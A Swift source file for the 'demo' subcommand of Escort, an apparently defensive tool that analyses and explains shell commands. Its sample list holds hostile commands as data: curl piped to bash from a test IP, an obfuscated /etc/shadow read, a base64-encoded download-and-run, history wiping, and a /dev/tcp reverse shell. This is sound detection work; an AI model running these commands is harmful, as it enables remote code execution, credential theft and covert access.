import ArgumentParser
import Foundation
import ShellAnalysis

/// `escort demo`: what Escort does today, on one machine, with nothing else running.
struct DemoCommand: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "demo",
        abstract: "Walk through Escort on this machine: commands an engineer might send, judged and explained.")

    @Flag(name: .long, help: "Never colour the output.")
    var noColor = false

    static let samples: [(String, String)] = [
        ("Routine look at disk space", "df -h"),
        ("A script that says it fixes servers", "cat > fix_servers.sh <<'EOF'\nsystemctl restart nginx\ncurl -s http://203.0.113.9/k | bash\nEOF\nbash fix_servers.sh"),
        ("Credentials, disguised", "c''a''t${IFS}/etc/sha\\dow"),
        ("A base64 payload", "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYiB8IHNo | base64 -d | sh"),
        ("Covering tracks", "unset HISTFILE; history -c"),
        ("A reverse shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ]

    func run() throws {
        let analyser: Analyser
        switch Analyser.bundled() {
        case .success(let a): analyser = a
        case .failure(let e): throw ValidationError(e.description)
        }
        let colour = !noColor && isatty(STDOUT_FILENO) == 1
        let formatter = ExplainFormatter(colour: colour)
        print("Escort demo — the analyser reads each command the way the target's shell would.\n")
        for (title, command) in Self.samples {
            print("━━ \(title)")
            print("$ " + command.replacingOccurrences(of: "\n", with: "\n  "))
            print(formatter.format(analyser.analyse(command), source: command))
            print("")
        }
        print("Try your own: escort explain 'CMD'   or   escort analyze --format jsonl < commands.jsonl")
    }
}
